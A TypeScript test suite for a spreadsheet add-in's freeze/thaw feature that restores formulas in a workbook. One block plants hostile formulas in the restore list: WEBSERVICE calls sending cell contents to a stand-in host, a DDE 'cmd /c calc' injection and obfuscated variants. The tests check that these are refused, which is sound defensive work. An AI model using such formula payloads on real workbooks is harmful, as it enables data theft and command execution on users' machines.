import { freeze } from "../../../src/actions/freeze/freeze.ts";
import { thaw } from "../../../src/actions/freeze/thaw.ts";
import type { CellValue, WriteCell } from "../../../src/workbook/port.ts";
import type { SheetModel } from "../../fixtures/book-model.ts";
import { at, formulaAt, history, kentBook, metric, mixed, neighbours, put } from "../../fixtures/kent-book.ts";
import { MemoryPort } from "../../fixtures/memory-port.ts";

/** Works from a cell far below it. */
const fromBelow = '=LOF.METRIC(A9,"NEET")';

const workbook = { kind: "workbook" } as const;

async function frozenKent(cells: Readonly<Record<string, WriteCell>>) {
  const { book, kent } = kentBook(cells);
  (book.answers as Map<string, CellValue[][]>).set(fromBelow, [[7]]);
  const port = new MemoryPort(book);
  await freeze(port, workbook, { edition: "2026-01-15", date: "2026-03-02" });
  return { book, kent, port };
}

describe("thaw", () => {
  test("a book without a list has nothing to thaw", async () => {
    const { book } = kentBook({ B2: 1 });
    expect(await thaw(new MemoryPort(book), workbook)).toEqual({ thawed: [], besides: [], left: [], renamed: [] });
  });

  test("the formulas come back letter by letter, spills fill their cells again, the list's sheet goes", async () => {
    const { book, kent, port } = await frozenKent({
      B2: { formula: mixed },
      B4: { formula: neighbours },
      D4: { formula: history },
    });
    const { thawed, left } = await thaw(port, workbook);
    expect([thawed.length, left]).toEqual([3, []]);
    expect(["B2", "B4", "D4"].map((name) => formulaAt(kent, name))).toEqual([mixed, neighbours, history]);
    expect(["B5", "B6", "E4", "E5"].map((name) => at(kent, name))).toEqual(["Devon", "Surrey", 5.1, { error: "#N/A" }]);
    expect(book.sheets.map(({ name }) => name)).toEqual(["Kent"]);
  });

  test("a selection that touches any cell of a frozen spill means it, other rows stay on the list", async () => {
    const { book, kent, port } = await frozenKent({ B2: { formula: metric }, B4: { formula: neighbours } });
    const { thawed } = await thaw(port, {
      kind: "selection",
      block: { sheet: "Kent", row: 5, column: 1, rows: 1, columns: 1 },
    });
    expect(thawed.map(({ formula }) => formula)).toEqual([neighbours]);
    expect(formulaAt(kent, "B2")).toBeNull();
    expect(book.sheet("LOF frozen").value(4, 1)).toBe("B2");
    expect(book.sheet("LOF frozen").value(5, 1)).toBeNull();
  });

  test("cells changed after freezing are not overwritten but listed", async () => {
    const { book, kent, port } = await frozenKent({ B2: { formula: metric }, B4: { formula: neighbours } });
    put(kent, "B5", "Kent's own");
    const { thawed, left } = await thaw(port, workbook);
    expect(thawed.map(({ formula }) => formula)).toEqual([metric]);
    expect(left).toEqual([
      { cell: { sheet: "Kent", row: 3, column: 1 }, formula: neighbours, why: { kind: "changed" } },
    ]);
    expect(at(kent, "B5")).toBe("Kent's own");
    expect(book.sheet("LOF frozen").value(4, 1)).toBe("B4");
  });

  test("a formula of the user's own in their place counts as a change, even with the same value", async () => {
    const { kent, port } = await frozenKent({ B2: { formula: metric } });
    put(kent, "B2", { formula: '=LOF.METRIC("Kent","persistent absence")+0' });
    expect((await thaw(port, workbook)).left.map(({ why }) => why)).toEqual([{ kind: "changed" }]);
  });

  test("changed cells are overwritten when told to", async () => {
    const { kent, port } = await frozenKent({ B4: { formula: neighbours } });
    put(kent, "B5", "Kent's own");
    const { left } = await thaw(port, workbook, { overwrite: true });
    expect(left).toEqual([]);
    expect(at(kent, "B5")).toBe("Devon");
  });

  test("a formula that is in place already only loses its row", async () => {
    const { book, kent, port } = await frozenKent({ B2: { formula: metric } });
    put(kent, "B2", { formula: metric });
    await thaw(port, workbook);
    expect(formulaAt(kent, "B2")).toBe(metric);
    expect(book.sheets).toHaveLength(1);
  });

  test("formulas of a sheet that is gone or protected stay on the list", async () => {
    const { book, kent, port } = await frozenKent({ B2: { formula: metric } });
    kent.isProtected = true;
    expect((await thaw(port, workbook)).left.map(({ why }) => why)).toEqual([{ kind: "protected" }]);
    book.remove("Kent");
    expect((await thaw(port, workbook)).left.map(({ why }) => why)).toEqual([{ kind: "sheet-gone" }]);
    expect(book.sheet("LOF frozen").value(4, 1)).toBe("B2");
  });

  test("rows of the list that were changed by hand are kept as they are", async () => {
    const { book, kent, port } = await frozenKent({ B2: { formula: metric }, B3: { formula: mixed } });
    book.sheet("LOF frozen").put(4, 1, "somewhere");
    await thaw(port, workbook);
    expect([formulaAt(kent, "B2"), formulaAt(kent, "B3")]).toEqual([null, mixed]);
    expect([0, 1, 3].map((column) => book.sheet("LOF frozen").value(4, column))).toEqual(["Kent", "somewhere", metric]);
  });

  test("a thaw that is stopped leaves the list as it must be", async () => {
    const { book, port } = await frozenKent({ B2: { formula: metric } });
    await expect(thaw(port, workbook, { signal: AbortSignal.abort() })).rejects.toMatchObject({ reason: "stopped" });
    expect(book.sheet("LOF frozen").value(4, 1)).toBe("B2");
  });
});

describe("a list that somebody else may have written", () => {
  const hostile = [
    '=WEBSERVICE("https://x.invalid/?"&A1)',
    '=IF(LOF.METRIC("Kent","NEET")>0,WEBSERVICE("https://x.invalid"),0)',
    '=WEBSERVICE("https://x.invalid/?"&A1#)',
    '=HYPERLINK("https://x.invalid/#a")',
    '=HYPERLINK("https://x.invalid/"&LOF.METRIC("Kent","NEET"))',
    "=cmd|'/c calc'!A1",
    "=LOF.METRIC(cmd|'/c calc'!A1,B1)",
    '=LOF.METRIC("a","b")&CONTOSO.SEND(A1)',
    '=LET(f,WEBSERVICE,f("https://x.invalid/"&LOF.METRIC("Kent","NEET")))',
    "='https://x.invalid/[b.xlsx]S'!A1&LOF.METRIC(A1,B1)",
    '+WEBSERVICE("https://x.invalid")',
    '@WEBSERVICE("https://x.invalid")',
    '{=WEBSERVICE("https://x.invalid")}',
    '=\n+_xlfn.WEBSERVICE("https://x.invalid")',
  ];

  test.each([false, true])(
    "enters nothing that reaches out, names it and keeps its row (overwriting: %s)",
    async (overwrite) => {
      for (const planted of hostile) {
        const { book, kent, port } = await frozenKent({ B2: { formula: metric }, B3: { formula: mixed } });
        book.sheet("LOF frozen").put(4, 3, planted);
        const { thawed, left } = await thaw(port, workbook, { overwrite });
        expect([planted, thawed.map(({ formula }) => formula)]).toEqual([planted, [mixed]]);
        expect(left).toMatchObject([
          { formula: planted, why: { kind: expect.stringMatching(/^(?:unsafe|foreign)$/) } },
        ]);
        expect([at(kent, "B2"), formulaAt(kent, "B2")]).toEqual([19.4, null]);
        expect([4, 5].map((row) => book.sheet("LOF frozen").value(row, 3))).toEqual([planted, null]);
      }
    },
  );

  test("a freeze leaves live, and names, what a thaw would not enter", async () => {
    const reaching = '=IF(LOF.METRIC("Kent","NEET")>0,WEBSERVICE("https://x.invalid"),0)';
    const { book, kent } = kentBook({ B2: { formula: metric }, B3: { formula: reaching } });
    (book.answers as Map<string, number[][]>).set(reaching, [[1]]);
    const { frozen, left } = await freeze(new MemoryPort(book), workbook, {
      edition: "2026-01-15",
      date: "2026-03-02",
    });
    expect(frozen.map(({ formula }) => formula)).toEqual([metric]);
    expect(left.map(({ why }) => why)).toEqual([{ kind: "unsafe", what: "WEBSERVICE" }]);
    expect(formulaAt(kent, "B3")).toBe(reaching);
  });
});

describe("a thaw that ended inside a spill", () => {
  test("is finished by the next: what the freeze left in the way is emptied", async () => {
    const { book, kent, port } = await frozenKent({ B4: { formula: neighbours }, D4: { formula: history } });
    put(kent, "B4", { formula: neighbours });
    put(kent, "D4", { formula: history });
    expect(at(kent, "B4")).toEqual({ error: "#SPILL!" });
    const { thawed, left } = await thaw(port, workbook);
    expect([thawed.length, left]).toEqual([2, []]);
    expect(["B4", "B5", "B6", "D4", "E5"].map((name) => at(kent, name))).toEqual([
      "Essex",
      "Devon",
      "Surrey",
      "2023/24",
      { error: "#N/A" },
    ]);
    expect(book.sheets.map(({ name }) => name)).toEqual(["Kent"]);
  });

  test("leaves what the officer has typed there, and the row with it, until told to overwrite", async () => {
    const { book, kent, port } = await frozenKent({ B4: { formula: neighbours } });
    put(kent, "B4", { formula: neighbours });
    put(kent, "B6", "own");
    expect((await thaw(port, workbook)).left.map(({ why }) => why)).toEqual([{ kind: "changed" }]);
    expect([at(kent, "B5"), at(kent, "B6"), book.sheets.length]).toEqual(["Devon", "own", 2]);
    expect((await thaw(port, workbook, { overwrite: true })).left).toEqual([]);
    expect([at(kent, "B4"), at(kent, "B6")]).toEqual(["Essex", "Surrey"]);
  });

  test("says so when a formula typed back by hand answers: nothing is in its way", async () => {
    const { kent, port } = await frozenKent({ B4: { formula: neighbours } });
    for (const name of ["B5", "B6"]) put(kent, name, null);
    put(kent, "B4", { formula: neighbours });
    expect(await thaw(port, workbook)).toMatchObject({ thawed: [{ formula: neighbours }], left: [] });
  });
});

/** Everything on a sheet from a row on stands some rows lower, as after inserting rows. */
function insertRows(sheet: SheetModel, before: number, count: number): void {
  const cells = [...sheet.held].map(([key, cell]) => [...key.split(",").map(Number), cell] as const);
  sheet.held.clear();
  for (const [row, column, cell] of cells as [number, number, { value: CellValue; formula: string | null }][])
    sheet.held.set(`${row >= before ? row + count : row},${column}`, cell);
}

describe("a sheet that was edited after freezing", () => {
  const three = { B2: { formula: metric }, B4: { formula: neighbours }, D4: { formula: history } };

  test.each([false, true])(
    "with rows inserted: says where the values stand, writes to no old place (overwriting: %s)",
    async (overwrite) => {
      const { book, kent, port } = await frozenKent(three);
      insertRows(kent, 2, 2);
      const before = [...kent.held].filter(([key]) => key !== "1,1");
      const { thawed, left } = await thaw(port, workbook, { overwrite });
      expect(thawed.map(({ formula }) => formula)).toEqual([metric]);
      expect(left.map(({ formula, why }) => [formula, why])).toEqual([
        [neighbours, { kind: "moved", to: "B6" }],
        [history, { kind: "moved", to: "D6" }],
      ]);
      expect([...kent.held].filter(([key]) => key !== "1,1")).toEqual(before);
      expect(book.sheet("LOF frozen").value(5, 3)).toBe(history);
    },
  );

  test("once the rows are taken out again, is thawed as it was", async () => {
    const { book, kent, port } = await frozenKent(three);
    insertRows(kent, 2, 2);
    await thaw(port, workbook);
    insertRows(kent, 4, -2);
    expect((await thaw(port, workbook)).left).toEqual([]);
    expect([formulaAt(kent, "B2"), formulaAt(kent, "B4"), formulaAt(kent, "D4")]).toEqual([
      metric,
      neighbours,
      history,
    ]);
    expect(book.sheets).toHaveLength(1);
  });

  test("leaves a formula in its place that works from cells which moved", async () => {
    const { kent, port } = await frozenKent({ A1: { formula: fromBelow }, B4: { formula: neighbours } });
    put(kent, "A9", "Kent");
    insertRows(kent, 2, 2);
    expect((await thaw(port, workbook)).left.map(({ why }) => why)).toEqual([
      { kind: "input-moved", sheet: "Kent" },
      { kind: "moved", to: "B6" },
    ]);
    expect(at(kent, "A1")).toBe(7);
  });

  test("a value typed over is a change, not a move", async () => {
    const { kent, port } = await frozenKent({ B2: { formula: metric } });
    put(kent, "B2", 20);
    put(kent, "C3", 19.4);
    expect((await thaw(port, workbook)).left.map(({ why }) => why)).toEqual([{ kind: "changed" }]);
  });
});

describe("a sheet that was renamed after freezing", () => {
  const fromKent = '=LOF.METRIC(Kent!A9,"NEET")';

  async function renamedBook() {
    const made = kentBook({ B2: { formula: metric }, B4: { formula: neighbours } });
    (made.book.answers as Map<string, CellValue[][]>)
      .set(fromKent, [[8.1]])
      .set(fromKent.replace("Kent!", "'Kent 2026'!"), [[8.1]]);
    put(made.book.add("Other"), "A1", { formula: fromKent });
    const port = new MemoryPort(made.book);
    await freeze(port, workbook, { edition: "2026-01-15", date: "2026-03-02" });
    Object.assign(made.kent, { name: "Kent 2026" });
    return { ...made, port };
  }

  test("is offered where exactly one sheet holds its values, never taken by itself", async () => {
    const { book, kent, port } = await renamedBook();
    const { thawed, left, renamed } = await thaw(port, workbook);
    expect(renamed).toEqual([{ from: "Kent", to: "Kent 2026" }]);
    expect([thawed, left.map(({ why }) => why.kind)]).toEqual([[], ["sheet-gone", "sheet-gone", "input-gone"]]);
    expect(formulaAt(kent, "B2")).toBeNull();
    expect((await thaw(port, { kind: "sheet", sheet: "Kent 2026" })).renamed).toHaveLength(1);
    const after = await thaw(port, workbook, { renamed });
    expect([after.thawed.length, after.left, after.renamed]).toEqual([3, [], []]);
    expect([formulaAt(kent, "B2"), formulaAt(kent, "B4")]).toEqual([metric, neighbours]);
    expect(formulaAt(book.sheet("Other"), "A1")).toBe("=LOF.METRIC('Kent 2026'!A9,\"NEET\")");
    expect(book.sheets.map(({ name }) => name)).toEqual(["Kent 2026", "Other"]);
  });

  test("is not offered where two sheets hold the same, or none does", async () => {
    const { book, kent, port } = await renamedBook();
    const copy = book.add("Copy");
    kent.held.forEach((cell, key) => copy.held.set(key, cell));
    expect((await thaw(port, workbook)).renamed).toEqual([]);
    book.remove("Copy");
    put(kent, "B5", "typed");
    expect((await thaw(port, workbook)).renamed).toEqual([]);
  });
});
